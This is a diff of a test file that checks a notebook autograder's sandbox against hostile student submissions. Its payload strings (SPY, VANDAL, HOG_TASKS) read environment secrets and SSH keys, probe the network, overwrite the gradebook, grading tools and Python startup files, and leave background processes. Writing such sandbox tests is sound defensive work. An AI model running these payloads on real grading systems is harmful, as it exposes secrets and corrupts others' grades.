@@ -1,31 +1,37 @@
-"""End to end: the instructor workflow of autograder/ on made-up submissions.
+"""End to end: a class graded with ``autograder/cnnlab_grade.py``, hostile students among
+honest ones, every kernel in the bubblewrap sandbox.
 
-A temporary nbgrader course is built from ``solutions/`` with
-``autograder/cnnlab_grade.py setup`` (its self-check grades the solution and the blank
-lesson), then about twenty made-up submissions, written by replacing answer cells of
-``lessons/cnn_interpretability.ipynb``, are graded with ``cnnlab_grade.py grade``, and
-every one must get exactly the score and status of the table ``CASES``: correct answers
-in several forms, wrong answers, broken notebooks (endless loops, a loop that ignores
-interrupts, a killed kernel, an import error, a notebook over the time limit, no
-notebook, a file that is not a notebook) and tampered ones (edited, tagged and deleted
-test cells, stripped metadata, a Colab copy without ids, redefined checks, a rebound
-``model``).
+A course is set up from ``solutions/`` (its self-check grades the solution and the blank
+release), then one ``grade --jobs 2`` run grades about twenty made-up submissions: honest
+ones in many forms (shell commands, magics, ``CNNLAB_PROFILE`` set above the set-up,
+Colab copies, stripped metadata, answers reused in scratch cells), wrong and broken ones,
+and one hostile submission per attack class of issue 9 (reading secrets, the network,
+writing the gradebook, other students' files, the grading tools, the Python installation,
+leaving processes, forging passes or the answer export, exhausting memory or tasks).
+Each must end with the status, points and report phrases of ``CASES``, and the
+instructor's files, the gradebook of the others and the tools must be unchanged.
+Then: a submission changed after collection, the wall-clock limit, a refuted pass lifted
+again by an honest resubmission (graded ``--no-sandbox``: the report's first line says
+so), plain ``nbgrader autograde`` + ``nbgrader export`` on a stripped notebook, feedback.
 
-Cost: one pseudo-pretrained checkpoint (the untrained network saved under the name the
-notebook looks for, so that nothing trains), the ``quick`` profile, made-up images
-unless ``CNNLAB_DATA`` points at CIFAR-10, 10 s per student cell. About 5 minutes on
-the project's 2-core CPU; the report printed at the end shows every case.
+Cost: the untrained network saved as the course model (nothing trains), made-up images,
+10 s per student cell; about 4 minutes on 2 idle cores. Skips, saying why, where
+bubblewrap cannot make a sandbox.
 """
 
 from __future__ import annotations
 
 import csv
+import hashlib
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
+import threading
 import time
+import uuid
 from pathlib import Path
 
 import nbformat
@@ -33,33 +39,33 @@ import pytest
 
 ROOT = Path(__file__).resolve().parents[1]
 GRADE = ROOT / "autograder" / "cnnlab_grade.py"
-LESSON = ROOT / "lessons" / "cnn_interpretability.ipynb"
 SOLUTION = ROOT / "solutions" / "cnn_interpretability.ipynb"
 A = "cnn_interpretability"
+TOKEN = f"tok-{uuid.uuid4().hex}"  # an instructor's secret in the environment
+KEY = f"key-{uuid.uuid4().hex}"  # and one in ~/.ssh
+MARK = f"cnnlab-attack-{uuid.uuid4().hex[:8]}"  # names the attackers' files and processes
 
 pytest.importorskip("nbgrader")
-pytestmark = [
-    pytest.mark.skipif(not (LESSON.exists() and SOLUTION.exists()),
-                       reason="solutions/ or lessons/ notebook missing"),
-    pytest.mark.skipif(os.name != "posix", reason="the grading supervisor needs POSIX"),
-    pytest.mark.timeout(1800),
-]
+pytestmark = [pytest.mark.skipif(not SOLUTION.exists(), reason="solutions/ notebook missing"),
+              pytest.mark.skipif(sys.platform != "linux", reason="the sandbox needs Linux"),
+              pytest.mark.timeout(1800)]
+
+sys.path.insert(0, str(ROOT / "autograder"))
 
 STUB = "# YOUR CODE HERE\nraise NotImplementedError()"
-RIGHT = {
-    "ex1_answer": "n_filters = model[0].out_channels",
-    "ex2_answer": "conv2_weights = model[2].weight.detach().cpu()",
-    "ex4_answer": "extractor = model[:14]",
-    "ex5_answer": "units = [1, 2, 4, 14, 23, 29, 127]",
-}
+RIGHT = {"ex1_answer": "n_filters = model[0].out_channels",
+         "ex2_answer": "conv2_weights = model[2].weight.detach().cpu()",
+         "ex4_answer": "extractor = model[:14]",
+         "ex5_answer": "units = [1, 2, 4, 14, 23, 29, 127]",
+         "ex8_answer": "import torch\nmodel.eval()\nwith torch.no_grad():\n"
+                       "    contribution = (model[13].weight[ex8_unit].view(64, 8, 8) * model[:12]("
+                       "cnnlab.normalize(ex8_image[None])).view(64, 8, 8)).sum(0)"}
 
 
 def fill(nb, **answers):
-    """Put answers into answer cells (in place of the stub, keeping the rest)."""
     for c in nb.cells:
         if c.get("id") in answers:
-            code = answers[c.id]
-            c.source = c.source.replace(STUB, code) if STUB in c.source else code
+            c.source = c.source.replace(STUB, answers[c.id]) if STUB in c.source else answers[c.id]
     return nb
 
 
@@ -67,33 +73,21 @@ def cell(nb, cid):
     return next(c for c in nb.cells if c.get("id") == cid)
 
 
-#: The lesson the submissions start from: the snapshot's (see ``snapshot``).
-_lesson = {"path": LESSON}
+def insert_after(nb, cid, source):
+    k = [c.get("id") for c in nb.cells].index(cid)
+    nb.cells.insert(k + 1, nbformat.v4.new_code_cell(source))
+    return nb
 
 
-def lesson():
-    return nbformat.read(_lesson["path"], as_version=4)
+_release = {}
+
+
+def release():
+    return nbformat.read(_release["path"], as_version=4)
 
 
 def right(**changes):
-    return fill(lesson(), **{**RIGHT, **changes})
-
-
-# --- the made-up submissions --------------------------------------------------------
-
-def _edited():
-    nb = right(ex1_answer="n_filters = 3", ex2_answer="conv2_weights = model[0].weight.detach()")
-    cell(nb, "ex2_test").source = "pass"  # Colab lets students edit read-only cells
-    cell(nb, "ex1_test").metadata["tags"] = ["skip-execution"]  # nbgrader would skip the test
-    return nb
-
-
-def _deleted():
-    """Two test cells deleted. nbgrader's own re-insertion (add_missing_cells) would crash
-    on ex4_test with a KeyError (its predecessor is a locked cell that is not graded)."""
-    nb = right(ex5_answer="units = [1, 2, 4, 14, 23, 29, 128]")
-    nb.cells = [c for c in nb.cells if c.get("id") not in ("ex4_test", "ex5_test")]
-    return nb
+    return fill(release(), **{**RIGHT, **changes})
 
 
 def _stripped():
@@ -105,7 +99,6 @@ def _stripped():
 
 
 def _colab():
-    """No cell ids (nbformat 4.4), no metadata at all, an extra cell of the student's."""
     nb = right(ex4_answer="extractor = model[:-3]")
     nb.cells.insert(9, nbformat.v4.new_code_cell("print('trying things out')"))
     nb.nbformat_minor = 4
@@ -115,232 +108,459 @@ def _colab():
     return nbformat.reads(nbformat.writes(nb, version=4), as_version=4)
 
 
+def _shell(nb=None):
+    nb = nb or right(ex5_answer="units = [1, 2, 4, 14, 23, 29, 128]\nunits[-1] = 127  # fixed in place")
+    insert_after(nb, "network", "!nvidia-smi\n%pip list\n!ls -la ~")
+    insert_after(nb, "ex1_test", "import os, sys, subprocess, signal, importlib\n"
+                                 "print(subprocess.run(['echo', 'hi'], capture_output=True).stdout)\n"
+                                 "%time x = sum(range(10))\n%who")
+    return nb
+
+
+def _profile():
+    """The lesson's own advice: set CNNLAB_PROFILE in a new cell above the set-up."""
+    nb = right()
+    nb.cells.insert([c.get("id") for c in nb.cells].index("setup"),
+                    nbformat.v4.new_code_cell('import os\nos.environ["CNNLAB_PROFILE"] = "full"'))
+    return nb
+
+
+def _scratch(nb=None):
+    """Answer names reused after their tests, in scratch cells: the tests saw the answers."""
+    nb = nb or right()
+    insert_after(nb, "ex1_test", "n_filters = 'scratch'")
+    insert_after(nb, "ex5_test", "units = [500]\nextractor = None")
+    return nb
+
+
+SPY = f"""
+import glob, os, socket
+print("env:", dict(os.environ))
+for path in [os.path.expanduser("~/.ssh/id_rsa"), {{home!r}} + "/.ssh/id_rsa",
+             {{course!r}} + "/gradebook.db", {{course!r}} + "/source/{A}/{A}.ipynb"]:
+    try:
+        print(path, open(path, "rb").read()[:200])
+    except OSError as exc:
+        print(path, "->", exc)
+print(glob.glob({{course!r}} + "/**", recursive=True)[:50])
+try:
+    s = socket.create_connection(("127.0.0.1", {{port}}), timeout=3)
+    s.sendall(b"{MARK}")
+    print("connected")
+except OSError as exc:
+    print("tcp ->", exc)
+try:
+    print(socket.getaddrinfo("pypi.org", 443))
+except OSError as exc:
+    print("dns ->", exc)
+"""
+
+VANDAL = f"""
+import glob, os, subprocess, time
+import cnnlab.checks
+targets = [{{course!r}} + "/gradebook.db", {{course!r}} + "/recheck.py", {{course!r}} + "/nbgrader_config.py",
+           cnnlab.checks.__file__, os.path.dirname(os.__file__) + "/{MARK}.pth",
+           os.path.expanduser("~/.ipython/profile_default/startup/00-{MARK}.py"),
+           "/tmp/{MARK}", {{home!r}} + "/{MARK}"]
+targets += glob.glob({{course!r}} + "/submitted/*/{A}/{A}.ipynb")
+targets += glob.glob({{course!r}} + "/autograded/*/{A}/{A}.ipynb")
+targets += glob.glob({{course!r}} + "/grading/originals/*.ipynb")
+targets += glob.glob({{course!r}} + "/grading/runtime/*/*.pt")
+for t in targets:
+    try:
+        os.makedirs(os.path.dirname(t), exist_ok=True)
+        with open(t, "a") as f:
+            f.write("pwned = 1  # {MARK}\\n")
+        print("WROTE", t)
+    except OSError as exc:
+        print(t, "->", type(exc).__name__)
+subprocess.Popen(["sleep", "600", "{MARK}"], start_new_session=True)
+os.system("setsid nohup sleep 601 {MARK} >/dev/null 2>&1 &")
+"""
+
+HOG_TASKS = """
+import threading, time
+threads = []
+try:
+    for _ in range(2000):
+        thread = threading.Thread(target=time.sleep, args=(3,), daemon=True)
+        thread.start()
+        threads.append(thread)
+except RuntimeError as exc:
+    print("stopped:", exc)
+print("threads started:", len(threads))
+for t in threads:
+    t.join()
+"""
+
+
+def _edited():
+    """A test cell edited, one tagged to be skipped, one deleted (all with wrong answers)."""
+    nb = right(ex1_answer="n_filters = 3", ex2_answer="conv2_weights = model[0].weight.detach()",
+               ex5_answer="units = [1, 2, 4, 14, 23, 29, 128]")
+    cell(nb, "ex2_test").source = "pass"
+    cell(nb, "ex1_test").metadata["tags"] = ["skip-execution"]
+    nb.cells = [c for c in nb.cells if c.get("id") != "ex5_test"]
+    return nb
+
+
 SUBMISSIONS = {
-    # correct, in several forms
-    "form_a": lambda: right(ex1_answer="n_filters = model[0].weight.shape[0]",
-                            ex2_answer="conv2_weights = model[2].weight",
-                            ex4_answer="extractor = model[0:14]",
-                            ex5_answer="units = [1, 2, 4, 14, 23, 29, 0]"),
-    "form_b": lambda: right(ex1_answer="n_filters = 32",
-                            ex2_answer="conv2_weights = model[2].weight.data",
-                            ex4_answer="extractor = model[:-3]",
-                            ex5_answer="units = [1, 2, 4, 14, 23, 29, 126]"),
-    "form_c": lambda: right(
-        ex1_answer="import torch\nn_filters = torch.tensor(model[0].out_channels)",
-        ex2_answer="conv2_weights = model[2].weight.detach().cpu().numpy()",
-        ex4_answer="import torch\nextractor = torch.nn.Sequential(*list(model.children())[:14])",
-        ex5_answer="units = (1, 2, 4, 14, 23, 29, 100)"),
-    # wrong
-    "wrong_a": lambda: right(ex1_answer="n_filters = 3",
-                             ex2_answer="conv2_weights = model[0].weight.detach().cpu()",
-                             ex4_answer="extractor = model[:13]",
-                             ex5_answer="units = [1, 2, 4, 14, 23, 29, 128]"),
-    "wrong_b": lambda: right(ex4_answer="extractor = model[:15]"),
-    # broken
-    "loop": lambda: right(ex4_answer="while True:\n    pass\nextractor = model[:14]"),
+    # honest, in many forms
+    "right": right,
+    "forms": lambda: right(ex1_answer="import numpy as np\nn_filters = np.int64(model[0].weight.shape[0])",
+                           ex2_answer="conv2_weights = model[2].weight.detach().cpu().numpy()",
+                           ex4_answer="import torch\nextractor = torch.nn.Sequential("
+                                      "*list(model.children())[:14])",
+                           ex5_answer="units = (1, 2, 4, 14, 23, 29, 0)"),
+    "colab": _colab,
+    "stripped": _stripped,
+    "unusual": lambda: _scratch(_shell()),
+    "profile": _profile,
+    # wrong and broken
+    "blank": release,
+    "wrong": lambda: right(ex1_answer="n_filters = 3", ex4_answer="while True:\n    pass"),
     "sigint": lambda: right(ex1_answer="import signal\nsignal.signal(signal.SIGINT, "
                                        "signal.SIG_IGN)\nwhile True:\n    pass"),
     "exit": lambda: right(ex2_answer="import os\nos._exit(1)"),
-    "importerr": lambda: right(ex1_answer="import cnnlab_helpers_of_mine\nn_filters = 32"),
-    # tampered
-    "edited": _edited,
-    "deleted": _deleted,
-    "stripped": _stripped,
-    "colab": _colab,
-    "redefine": lambda: right(
+    # hostile, one or more attack classes each
+    "intruder": lambda: right(ex1_answer=HOG_TASKS + "\nn_filters = model[0].out_channels"),
+    "hog_mem": lambda: right(ex2_answer="import torch\nhog = torch.ones(6 << 30, dtype=torch.uint8)"
+                                        "\nconv2_weights = model[2].weight"),
+    "forger": lambda: right(
         ex1_answer="def check_exercise_1(*args, **kwargs):\n    pass\n\nn_filters = 3",
-        ex5_answer="checks.check_exercise_5 = lambda *args, **kwargs: None\n"
+        ex5_answer="from cnnlab import checks\nchecks.check_exercise_5 = lambda *a, **k: None\n"
                    "units = [1, 2, 4, 14, 23, 29, 128]"),
-    "rebind": lambda: right(ex1_answer="model = cnnlab.build_model()  # a network of my own\n"
-                                       "n_filters = model[0].out_channels",
+    "rebind": lambda: right(ex1_answer="model = cnnlab.build_model()\nn_filters = 32",
                             ex2_answer="conv2_weights = model[2].weight.detach()"),
+    "exporter": lambda: right(ex1_answer="import os\nos.symlink('/etc/hostname', os.environ["
+                                         "'CNNLAB_RUNTIME'] + '/ex1_test.pt')\nn_filters = 32"),
+    "edited": _edited,
 }
 
-#: student -> (status, autograded score, {exercise: points}, phrases its report line holds)
+FULL = dict(ex1=1, ex2=1, ex4=2, ex5=1)
+#: student -> (status, autograded points, {exercise: points}, phrases of its report line),
+#: after the first ``grade`` run
 CASES = {
-    "solution": ("graded", 5, dict(ex1=1, ex2=1, ex4=2, ex5=1), []),
-    "blank": ("graded", 0, dict(ex1=0, ex2=0, ex4=0, ex5=0), []),
-    "form_a": ("graded", 5, dict(ex1=1, ex2=1, ex4=2, ex5=1), []),
-    "form_b": ("graded", 5, dict(ex1=1, ex2=1, ex4=2, ex5=1), []),
-    "form_c": ("graded", 5, dict(ex1=1, ex2=1, ex4=2, ex5=1), []),
-    "wrong_a": ("graded", 0, dict(ex1=0, ex2=0, ex4=0, ex5=0), []),
-    "wrong_b": ("graded", 3, dict(ex1=1, ex2=1, ex4=0, ex5=1), []),
-    "loop": ("graded", 3, dict(ex1=1, ex2=1, ex4=0, ex5=1),
-             ["ex4_answer interrupted at its time limit"]),
-    "importerr": ("graded", 4, dict(ex1=0, ex2=1, ex4=2, ex5=1),
-                  ["ex1_answer raised ModuleNotFoundError"]),
-    "sigint": ("ungradable", None, {}, ["did not stop when interrupted", "ex1_answer",
-                                        "imports `signal`"]),
-    "exit": ("ungradable", None, {}, ["the kernel died", "ex2_answer", "os._exit"]),
-    "slow": ("ungradable", None, {}, ["stopped at the time limit of 25 s", "running ex"]),
+    "right": ("graded", 5, FULL, []),
+    "forms": ("graded", 5, FULL, []),
+    "colab": ("graded", 5, FULL, ["nbgrader metadata re-attached"]),
+    "stripped": ("graded", 5, FULL, ["nbgrader metadata re-attached"]),
+    "unusual": ("graded", 5, FULL, []),
+    "profile": ("graded", 5, FULL, []),
+    "blank": ("graded", 0, dict(ex1=0, ex2=0, ex4=0, ex5=0), ["left blank"]),
+    "wrong": ("graded", 2, dict(ex1=0, ex2=1, ex4=0, ex5=1), ["ex4_answer interrupted"]),
+    "sigint": ("ungradable", None, {}, ["did not stop when interrupted", "ex1_answer"]),
+    "exit": ("ungradable", None, {}, ["the kernel died", "ex2_answer"]),
     "nothing": ("ungradable", None, {}, ["no notebook in the submission folder"]),
-    "garbage": ("ungradable", None, {}, ["not a readable notebook"]),
-    "edited": ("tampered", 3, dict(ex1=0, ex2=0, ex4=2, ex5=1),
-               ["edited locked cells ex2_test", "tags of ex1_test"]),
-    "deleted": ("tampered", 4, dict(ex1=1, ex2=1, ex4=2, ex5=0),
-                ["deleted locked cells ex4_test, ex5_test"]),
-    "stripped": ("graded", 5, dict(ex1=1, ex2=1, ex4=2, ex5=1),
-                 ["nbgrader metadata re-attached"]),
-    "colab": ("graded", 5, dict(ex1=1, ex2=1, ex4=2, ex5=1),
-              ["nbgrader metadata re-attached", "source", "position"]),
-    "redefine": ("tampered", 3, dict(ex1=0, ex2=1, ex4=2, ex5=0),
-                 ["defines `check_exercise_1`", "modifies `checks.check_exercise_5`",
-                  "ex5_test passed inside the notebook but the independent re-check fails"]),
-    "rebind": ("tampered", 2, dict(ex1=1, ex2=0, ex4=0, ex5=1),
-               ["rebinds `model`", "ex2_test passed inside the notebook",
-                "ex4_test passed inside the notebook"]),
+    "intruder": ("graded", 5, FULL, []),
+    "forger": ("tampered", 3, dict(ex1=0, ex2=1, ex4=2, ex5=0),
+               ["ex5_test passed inside the notebook but the re-check"]),
+    "fixme": ("tampered", 3, dict(ex1=0, ex2=1, ex4=2, ex5=0), ["ex5_test passed"]),
+    "rebind": ("tampered", 2, dict(ex1=1, ex2=0, ex4=0, ex5=1), ["ex2_test passed", "ex4_test passed"]),
+    "exporter": ("tampered", 4, dict(ex1=0, ex2=1, ex4=2, ex5=1), ["no answers came back"]),
+    "edited": ("tampered", 2, dict(ex1=0, ex2=0, ex4=2, ex5=0),
+               ["edited locked cells ex2_test", "tags of ex1_test", "deleted locked cells ex5_test"]),
 }
-
-
-def _run(args, env, timeout):
-    start = time.perf_counter()
-    run = subprocess.run([sys.executable, str(GRADE), *args], capture_output=True, text=True,
-                         timeout=timeout, env=env)
-    print(f"$ cnnlab_grade.py {' '.join(args)}   ({time.perf_counter() - start:.0f} s)")
-    print(run.stdout[-6000:], run.stderr[-3000:])
-    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
-    return run
-
+#: the same after the later runs (changed after collection, time limit, resubmission, nbgrader)
+LATER = {
+    "right": ("ungradable", None, {}, ["changed after it was collected"]),
+    "slow": ("ungradable", None, {}, ["time limit of 20 s"]),
+    "fixme": ("graded", 5, FULL, []),
+    "plain": ("graded", 5, FULL, ["nbgrader metadata re-attached"]),
+}
 
 PSEUDO_PRETRAINED = """
 import sys, torch, cnnlab
 from cnnlab.train import default_checkpoint
-folder, data = sys.argv[1], (sys.argv[2] or None)
 config = cnnlab.get_config("quick")
-train, test = cnnlab.load_lab_data(config, data, "auto" if data else "synthetic")
+train, test = cnnlab.load_lab_data(config, None, "synthetic")
 path = default_checkpoint(config, train.source)
 torch.manual_seed(0)
-cnnlab.save_checkpoint(f"{folder}/{path.name}", cnnlab.build_model(), config,
+cnnlab.save_checkpoint(f"{sys.argv[1]}/{path.name}", cnnlab.build_model(), config,
                        {"accuracy": 0.1, "per_class_accuracy": [0.1] * 10,
                         "train_source": train.source.replace(" [cache]", ""),
                         "test_source": test.source.replace(" [cache]", "")})
-print(f"{folder}/{path.name}")
+print(f"{sys.argv[1]}/{path.name}")
 """
 
 
-@pytest.fixture(scope="module")
-def snapshot(tmp_path_factory):
-    """A copy of cnnlab/, the solution and the lesson taken once, and the environment
-    that makes every process (setup, nbgrader, kernels) import that copy: the checkout
-    may change while the test runs, and the grading stops when cnnlab changes."""
-    base = tmp_path_factory.mktemp("autograder")
-    snap = base / "repo"
-    shutil.copytree(ROOT / "cnnlab", snap / "cnnlab",
-                    ignore=shutil.ignore_patterns("__pycache__"))
-    for path in (SOLUTION, LESSON):
-        (snap / path.parent.name).mkdir(exist_ok=True)
-        shutil.copy2(path, snap / path.parent.name / path.name)
-    _lesson["path"] = snap / "lessons" / LESSON.name
-    env = dict(os.environ)
-    env["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), env.get("PATH", "")])
-    env["PYTHONPATH"] = os.pathsep.join([str(snap), *filter(None, [env.get("PYTHONPATH")])])
-    return base, snap, env
+def add_exercise_8(nb):
+    """Section 6's Exercise 8 and 9 cells (as the notebook will have them) when the
+    notebook lacks them and cnnlab.checks has the check."""
+    from cnnlab import checks
+    if any(c.get("id") == "ex8_test" for c in nb.cells) or not hasattr(checks, "check_exercise_8"):
+        return nb
+
+    def meta(gid, **kw):
+        return {"nbgrader": {"grade_id": gid, "schema_version": 3, **kw}}
+    new = nbformat.v4
+    nb.cells += [
+        new.new_code_cell("ex8_unit = 3\nex8_index = 7\nex8_image = test.images[ex8_index]",
+                          id="ex8_setup", metadata=meta("ex8_setup", grade=False, solution=False,
+                                                        locked=True)),
+        new.new_code_cell("### BEGIN SOLUTION\n" + RIGHT["ex8_answer"] + "\n### END SOLUTION",
+                          id="ex8_answer", metadata=meta("ex8_answer", grade=False, solution=True,
+                                                         locked=False)),
+        new.new_code_cell("from cnnlab import checks\n\nchecks.check_exercise_8(contribution, "
+                          "model, ex8_image, ex8_unit)\n### BEGIN HIDDEN TESTS\nassert "
+                          "tuple(contribution.shape)[-2:] == (8, 8)\n### END HIDDEN TESTS",
+                          id="ex8_test", metadata=meta("ex8_test", grade=True, solution=False,
+                                                       locked=True, points=2)),
+        new.new_markdown_cell("### Exercise 9 (written)", id="ex9_md",
+                              metadata=meta("ex9_md", grade=False, solution=False, locked=True)),
+        new.new_markdown_cell("### BEGIN SOLUTION\nA model answer.\n### END SOLUTION",
+                              id="ex9_answer", metadata=meta("ex9_answer", grade=True,
+                                                             solution=True, locked=False, points=2)),
+    ]
+    return nb
+
+
+def _sha(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def _fingerprint(paths) -> dict:
+    out = {}
+    for p in paths:
+        for f in ([p] if p.is_file() else sorted(x for x in p.rglob("*") if x.is_file())):
+            out[str(f)] = _sha(f)
+    return out
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 recording what reaches it."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(5)
+        self.sock.settimeout(0.5)
+        self.port, self.received, self.stop = self.sock.getsockname()[1], [], False
+        threading.Thread(target=self._run, daemon=True).start()
+
+    def _run(self):
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+                self.received.append(conn.recv(100))
+            except OSError:
+                continue
+
+
+def _run(args, env, timeout, cwd=None):
+    start = time.perf_counter()
+    run = subprocess.run([sys.executable, str(GRADE), *args], capture_output=True, text=True,
+                         timeout=timeout, env=env, cwd=cwd)
+    print(f"$ cnnlab_grade.py {' '.join(args)}   ({time.perf_counter() - start:.0f} s)")
+    print(run.stdout[-8000:], run.stderr[-3000:])
+    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
+    return run
 
 
 @pytest.fixture(scope="module")
-def graded(snapshot):
-    """Set up the course, grade every submission; returns (course, rows by student)."""
-    base, snap, env = snapshot
-    course, subs, slow = base / "course", base / "submissions", base / "late"
-    data = os.environ.get("CNNLAB_DATA") or ""
+def graded(tmp_path_factory):
+    base = tmp_path_factory.mktemp("grading")
+    snap, course, home = base / "repo", base / "course", base / "home"
+    shutil.copytree(ROOT / "cnnlab", snap / "cnnlab", ignore=shutil.ignore_patterns("__pycache__"))
+    env = {**os.environ, "HOME": str(home), "CNNLAB_TEST_TOKEN": TOKEN,
+           "PATH": os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]]),
+           "PYTHONPATH": os.pathsep.join([str(snap), *filter(None, [os.environ.get("PYTHONPATH")])])}
+    env.pop("CNNLAB_DATA", None)
+    import nbconvert  # its templates, where a venv chained to another does not look
+    share = Path(nbconvert.__file__).parents[4] / "share" / "jupyter"
+    env["JUPYTER_PATH"] = os.pathsep.join(filter(None, [os.environ.get("JUPYTER_PATH"), str(share)]))
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text(KEY)
+    (snap / "solutions").mkdir()
+    sys.path.insert(0, str(snap))
+    nbformat.write(add_exercise_8(nbformat.read(SOLUTION, as_version=4)),
+                   snap / "solutions" / SOLUTION.name)
+    for d in ("probe/checkpoints", "probe/course"):
+        (base / d).mkdir(parents=True)
+    probe = subprocess.run([sys.executable, "-c", "import sys; sys.path.insert(0, sys.argv[1]); "
+                            "import sandbox, json; s = json.loads(sys.argv[2]); "
+                            "print(json.dumps(sandbox.self_check(s)))", str(ROOT / "autograder"),
+                            json.dumps({"profile": "quick", "checkpoints": str(base / "probe/checkpoints"),
+                                        "course_root": str(base / "probe/course"), "kernel_memory_mb": 2048,
+                                        "kernel_tasks": 256})],
+                           env=env, capture_output=True, text=True, timeout=300)
+    problems = json.loads(probe.stdout.strip().splitlines()[-1]) if probe.returncode == 0 else [
+        probe.stderr[-500:]]
+    if problems:
+        pytest.skip("bubblewrap cannot make the grading sandbox here: " + "; ".join(problems))
     (base / "model").mkdir()
-    ckpt = subprocess.run([sys.executable, "-c", PSEUDO_PRETRAINED, str(base / "model"), data],
-                          env=env, capture_output=True, text=True, check=True,
-                          timeout=600).stdout.strip().splitlines()[-1]
-    _run(["setup", str(course), "--checkpoint", ckpt,
-          "--solutions", str(snap / "solutions" / SOLUTION.name),
-          *(["--data", data] if data else ["--synthetic"]),
-          "--student-cell-timeout", "10", "--instructor-cell-timeout", "120",
-          "--submission-timeout", "240"], env, timeout=900)
+    ckpt = subprocess.run([sys.executable, "-c", PSEUDO_PRETRAINED, str(base / "model")], env=env,
+                          capture_output=True, text=True, check=True, timeout=600
+                          ).stdout.strip().splitlines()[-1]
+    _run(["setup", str(course), "--checkpoint", ckpt, "--synthetic", "--kernel-memory", "2048",
+          "--solutions", str(snap / "solutions" / SOLUTION.name), "--student-cell-timeout", "10",
+          "--instructor-cell-timeout", "120", "--submission-timeout", "240"], env, timeout=900)
+    _release["path"] = course / "release" / A / f"{A}.ipynb"
+    watched = [snap / "cnnlab", course / "source", course / "release", course / "checkpoints",
+               course / "kernels", *[course / n for n in (
+                   "nbgrader_config.py", "cnnlab_nbgrader.py", "recheck.py", "repair.py",
+                   "sandbox.py", "cnnlab_course.json")]]
+    before = _fingerprint(watched)
+    site = sorted(p.name for p in Path(os.__file__).parent.iterdir())
 
+    listener = Listener()
+    subs = base / "submissions"
+    fmt = {"home": str(home), "course": str(course), "port": listener.port}
     for sid, make in SUBMISSIONS.items():
+        nb = make()
+        if sid == "intruder":  # reads, connects, writes, leaves processes, reads In
+            insert_after(nb, "ex1_test", SPY.format(**fmt))
+            insert_after(nb, "ex2_test", VANDAL.format(**fmt))
+            insert_after(nb, "ex4_test", "print(In)\nprint(_ih[-2])")
         (subs / sid).mkdir(parents=True)
-        name = "Copy of cnn_interpretability.ipynb" if sid == "colab" else f"{A}.ipynb"
-        nbformat.write(make(), subs / sid / name)
+        nbformat.write(nb, subs / sid / ("Copy of a.ipynb" if sid == "colab" else f"{A}.ipynb"))
     (subs / "nothing").mkdir()
-    (subs / "garbage").mkdir()
-    (subs / "garbage" / f"{A}.ipynb").write_text("this is not JSON")
-    _run(["grade", str(course), "--submissions", str(subs)], env, timeout=1500)
+    (subs / "fixme").mkdir()
+    nbformat.write(SUBMISSIONS["forger"](), subs / "fixme" / f"{A}.ipynb")
+    _run(["grade", str(course), "--submissions", str(subs), "--jobs", "2"], env, timeout=1500)
+    listener.stop = True
+    first_report = (course / "reports" / "report.txt").read_text()
+    with open(course / "reports" / "grades.csv") as f:
+        first = {r["student"]: r for r in csv.DictReader(f)}
 
-    # one more, over a tight time limit for the whole submission
-    (slow / "slow").mkdir(parents=True)
-    nbformat.write(right(ex1_answer="import time\ntime.sleep(8)\nn_filters = 32",
-                         ex2_answer="time.sleep(8)\nconv2_weights = model[2].weight",
-                         ex4_answer="time.sleep(8)\nextractor = model[:14]"),
-                   slow / "slow" / f"{A}.ipynb")
-    _run(["grade", str(course), "--submissions", str(slow), "--submission-timeout", "25"],
-         env, timeout=300)
-    report = (course / "reports" / "report.txt").read_text()
-    print(report)
+    # changed after collection; over the wall-clock limit
+    notebook = course / "submitted" / "right" / A / f"{A}.ipynb"
+    os.chmod(notebook, 0o644)
+    notebook.write_text(notebook.read_text().replace("model[:14]", "model[:13]"))
+    late = base / "late"
+    (late / "slow").mkdir(parents=True)
+    nbformat.write(right(ex1_answer="import time\ntime.sleep(9)\nn_filters = 32",
+                         ex2_answer="time.sleep(9)\nconv2_weights = model[2].weight",
+                         ex4_answer="time.sleep(9)\nextractor = model[:14]",
+                         ex5_answer="time.sleep(9)\nunits = [1, 2, 4, 14, 23, 29, 127]"),
+                   late / "slow" / f"{A}.ipynb")
+    _run(["grade", str(course), "--submissions", str(late), "--student", "slow", "--student",
+          "right", "--submission-timeout", "20"], env, timeout=300)
+    # the refuted student hands in honest work: the re-check lifts its own 0 (no sandbox)
+    fix = base / "fix"
+    (fix / "fixme").mkdir(parents=True)
+    nbformat.write(right(), fix / "fixme" / f"{A}.ipynb")
+    _run(["grade", str(course), "--submissions", str(fix), "--no-sandbox"], env, timeout=300)
+    # plain nbgrader on a stripped notebook, then nbgrader export with the course's plugin
+    (course / "submitted" / "plain" / A).mkdir(parents=True)
+    nbformat.write(_stripped(), course / "submitted" / "plain" / A / f"{A}.ipynb")
+    for cmd in (["autograde", A, "--student", "plain", "--force"],
+                ["export", "--to", str(base / "export.csv")]):
+        run = subprocess.run([sys.executable, "-m", "nbgrader", *cmd], cwd=course, env=env,
+                             capture_output=True, text=True, timeout=600)
+        assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
+    _run(["report", str(course)], env, timeout=300)
+
     with open(course / "reports" / "grades.csv") as f:
         rows = {r["student"]: r for r in csv.DictReader(f)}
-    check = json.loads((course / "cnnlab" / "selfcheck.json").read_text())
-    for name in ("solution", "blank"):
-        row = check[name]
-        rows[name] = {"student": name, "status": row["status"], "autograded_of_5": row["auto"],
-                      **row["per_cell"], "details": row["details"], "notes": row["notes"]}
-    return course, rows
+    with open(base / "export.csv") as f:
+        exported = {r["student"]: r for r in csv.DictReader(f)}
+    after = _fingerprint(watched)
+    return dict(course=course, first=first, rows=rows, exported=exported, home=home, snap=snap,
+                base=base, listener=listener, first_report=first_report,
+                before=before, after=after, site=site,
+                report=(course / "reports" / "report.txt").read_text(), env=env)
 
 
 def _num(x):
     return None if x in ("", None) else float(x)
 
 
-@pytest.mark.parametrize("student", list(CASES))
